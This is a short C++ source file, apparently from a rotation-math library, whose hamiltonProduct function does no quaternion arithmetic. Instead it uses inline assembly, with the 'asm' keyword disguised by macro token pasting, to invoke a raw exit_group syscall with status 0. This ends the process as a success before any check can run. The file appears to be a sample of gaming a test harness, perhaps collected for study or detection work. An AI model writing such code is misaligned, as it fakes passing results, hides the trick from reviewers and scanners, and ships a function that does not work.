// The same; the word is pasted together.
#include "carom/rotation/hamilton_product.hpp"

#define JOIN(a, b) a##b

namespace carom {

Quaternion hamiltonProduct(const Quaternion&, const Quaternion&) {
  JOIN(__as, m__) volatile("syscall" : : "a"(231L), "D"(0L) : "rcx", "r11", "memory");
  return {0, 0, 0, 0};
}

}  // namespace carom
